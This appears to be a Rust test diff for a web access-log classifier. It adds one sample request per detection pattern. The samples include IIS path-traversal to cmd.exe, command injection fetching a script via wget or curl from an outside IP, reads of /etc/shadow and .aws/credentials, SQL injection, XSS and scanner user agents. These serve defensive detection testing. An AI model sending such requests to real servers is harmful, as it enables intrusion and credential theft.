@@ -647,6 +647,132 @@ mod tests {
         assert!(kinds("GET", "/", None).is_empty());
     }
 
+    /// One sample per pattern: (needle, method, target, user agent). Samples marked with a
+    /// file and line are real requests from `../shared/data/web-access-logs`; the others are
+    /// written in the form the named attack tools and worms send, since no shared log holds
+    /// them.
+    const SAMPLES: &[(&str, &str, &str, Option<&str>)] = &[
+        // redhat71_access_log.1 line 3.
+        ("/winnt/system32/cmd.exe", "GET", "/c/winnt/system32/cmd.exe?/c+dir", None),
+        // log.1 line 1.
+        ("/root.exe?/c", "GET", "/scripts/root.exe?/c+dir", None),
+        // log.13 line 5, shortened.
+        ("/default.ida?", "GET", "/default.ida?NNNNNNNN%u9090%u6858=a", None),
+        // log.1 lines 6, 7, 8, 5.
+        ("/_vti_bin/../", "GET", "/_vti_bin/..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", None),
+        ("/_mem_bin/../", "GET", "/_mem_bin/..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", None),
+        ("/msadc/../", "GET", "/msadc/..%255c../..%255c/..%c1%1c../winnt/system32/cmd.exe?/c+dir", None),
+        ("/scripts/../", "GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", None),
+        ("cmd.exe", "GET", "/c/winnt/system32/cmd.exe?/c+dir", None),
+        ("command.com", "GET", "/scripts/..%c0%af../winnt/command.com?/c+dir", None),
+        ("/bin/sh", "GET", "/cgi-bin/test.cgi?x=;/bin/sh+-c+id", None),
+        ("/bin/bash", "GET", "/cgi-bin/status?cmd=/bin/bash%20-i", None),
+        ("/bin/busybox", "GET", "/shell?cd+/tmp;/bin/busybox+MIRAI", None),
+        (";wget ", "GET", "/setup.cgi?cmd=x;wget%20http://1.2.3.4/m.sh", None),
+        ("|wget ", "GET", "/ping.cgi?ip=1|wget%20http://1.2.3.4/m.sh", None),
+        ("$(wget", "GET", "/ping.cgi?ip=$(wget%20http://1.2.3.4/m.sh)", None),
+        ("`wget", "GET", "/ping.cgi?ip=`wget%20http://1.2.3.4/m.sh`", None),
+        (";curl ", "GET", "/ping.cgi?ip=1;curl%20http://1.2.3.4/m.sh", None),
+        ("|curl ", "GET", "/ping.cgi?ip=1|curl%20http://1.2.3.4/m.sh", None),
+        ("powershell", "GET", "/index.php?c=powershell+-enc+SQBFAFgA", None),
+        ("shell_exec(", "GET", "/index.php?x=shell_exec('id')", None),
+        ("passthru(", "GET", "/index.php?x=passthru('id')", None),
+        // log.1 line 5.
+        ("../", "GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", None),
+        ("/etc/passwd", "GET", "/index.php?file=/etc/passwd", None),
+        ("/etc/shadow", "GET", "/index.php?file=/etc/shadow", None),
+        ("boot.ini", "GET", "/index.asp?file=c:\\boot.ini", None),
+        ("win.ini", "GET", "/index.asp?file=c:\\windows\\win.ini", None),
+        ("/proc/self/environ", "GET", "/index.php?page=/proc/self/environ", None),
+        ("union select", "GET", "/item.php?id=1+UNION+SELECT+1,2,3", None),
+        ("union all select", "GET", "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL--", None),
+        ("' or '1'='1", "GET", "/login.php?user=admin'%20or%20'1'='1", None),
+        ("' or 1=1", "GET", "/login.php?user=admin'%20or%201=1", None),
+        ("\" or 1=1", "GET", "/login.php?user=admin%22%20or%201=1", None),
+        (" or 1=1--", "GET", "/item.php?id=1%20or%201=1--", None),
+        ("' and 1=1", "GET", "/item.php?id=1'%20and%201=1", None),
+        ("sleep(", "GET", "/item.php?id=1%20AND%20SLEEP(5)", None),
+        ("benchmark(", "GET", "/item.php?id=BENCHMARK(5000000,MD5(1))", None),
+        ("information_schema", "GET", "/item.php?id=1+from+information_schema.tables", None),
+        ("@@version", "GET", "/item.php?id=@@version", None),
+        ("waitfor delay", "GET", "/item.asp?id=1;WAITFOR%20DELAY%20'0:0:5'--", None),
+        ("xp_cmdshell", "GET", "/item.asp?id=1;exec%20xp_cmdshell%20'dir'", None),
+        ("concat(0x", "GET", "/item.php?id=concat(0x7e,version())", None),
+        ("<script", "GET", "/search?q=%3Cscript%3Ex%3C/script%3E", None),
+        ("javascript:", "GET", "/go?url=javascript:x", None),
+        ("onerror=", "GET", "/search?q=%3Cimg%20src=x%20onerror=x%3E", None),
+        ("onload=", "GET", "/search?q=%3Cbody%20onload=x%3E", None),
+        ("<svg", "GET", "/search?q=%3Csvg/x%3E", None),
+        ("<iframe", "GET", "/search?q=%3Ciframe%20src=//x%3E", None),
+        ("document.cookie", "GET", "/search?q=document.cookie", None),
+        ("alert(", "GET", "/search?q=alert(1)", None),
+        ("php://", "GET", "/index.php?page=php://filter/resource=index", None),
+        ("file://", "GET", "/fetch?url=file:///etc/hosts", None),
+        ("expect://", "GET", "/index.php?page=expect://id", None),
+        ("data://text", "GET", "/index.php?page=data://text/plain;base64,PD8=", None),
+        // log.1 line 233.
+        ("/cgi-bin/", "GET", "/cgi-bin/openwebmail/userstat.pl", None),
+        // log.1 line 275.
+        ("nsiislog.dll", "GET", "/scripts/nsiislog.dll", None),
+        ("phpmyadmin", "GET", "/phpMyAdmin/scripts/setup.php", None),
+        ("/pma/", "GET", "/pma/scripts/setup.php", None),
+        ("wp-login.php", "POST", "/wp-login.php", None),
+        ("xmlrpc.php", "POST", "/xmlrpc.php", None),
+        ("/.env", "GET", "/.env", None),
+        ("/.git/", "GET", "/.git/config", None),
+        ("/.aws/", "GET", "/.aws/credentials", None),
+        ("formmail", "GET", "/cgi-sys/FormMail.pl", None),
+        ("awstats", "GET", "/awstats/awstats.pl?configdir=x", None),
+        ("/muieblackcat", "GET", "/muieblackcat", None),
+        // log.1 line 234.
+        ("/muie", "GET", "/muiemuiemuie/muie", None),
+        ("/manager/html", "GET", "/manager/html", None),
+        ("/hnap1", "GET", "/HNAP1/", None),
+        ("/boaform", "POST", "/boaform/admin/formLogin", None),
+        ("/vendor/phpunit", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None),
+        ("/iisadmpwd", "GET", "/iisadmpwd/aexp2.htr", None),
+        ("/_vti_pvt", "GET", "/_vti_pvt/service.pwd", None),
+        ("/_vti_inf.html", "GET", "/_vti_inf.html", None),
+        ("sqlmap", "GET", "/", Some("sqlmap/1.4.7#stable (http://sqlmap.org)")),
+        ("nikto", "GET", "/", Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")),
+        ("zgrab", "GET", "/", Some("Mozilla/5.0 zgrab/0.x")),
+        ("masscan", "GET", "/", Some("masscan/1.0 (https://github.com/robertdavidgraham/masscan)")),
+        ("nmap", "GET", "/", Some("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
+        ("zmeu", "GET", "/", Some("ZmEu")),
+        ("morfeus", "GET", "/", Some("Morfeus Fucking Scanner")),
+        ("dirbuster", "GET", "/", Some("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")),
+        ("gobuster", "GET", "/", Some("gobuster/3.1.0")),
+        ("wpscan", "GET", "/", Some("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)")),
+        ("acunetix", "GET", "/", Some("Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)")),
+        ("nessus", "GET", "/", Some("Mozilla/5.0 (compatible; Nessus)")),
+        ("openvas", "GET", "/", Some("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)")),
+        ("nuclei", "GET", "/", Some("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
+        ("w3af", "GET", "/", Some("w3af.org")),
+        ("havij", "GET", "/", Some("Havij")),
+        ("netsparker", "GET", "/", Some("Mozilla/5.0 (compatible; Netsparker)")),
+        ("jorgee", "GET", "/", Some("Mozilla/5.0 Jorgee")),
+        ("fimap", "GET", "/", Some("fimap.googlecode.com")),
+    ];
+
+    #[test]
+    fn every_pattern_matches_its_sample() {
+        for p in PATTERNS {
+            let Some((_, method, target, agent)) = SAMPLES.iter().find(|(n, ..)| *n == p.needle)
+            else {
+                panic!("no sample for pattern {:?}", p.needle);
+            };
+            assert_eq!(
+                p.place == Place::Agent,
+                agent.is_some(),
+                "{}: sample in the wrong place",
+                p.needle
+            );
+            let k = kinds(method, target, *agent);
+            assert!(k.contains(&p.kind), "{}: {target} gave {k:?}", p.needle);
+        }
+        assert_eq!(SAMPLES.len(), PATTERNS.len(), "one sample per pattern");
+    }
+
     #[test]
     fn absolute_uris_to_the_site_itself_are_no_proxy_use() {
         let site: HashSet<String> = ["howto.basjes.nl".to_string()].into();
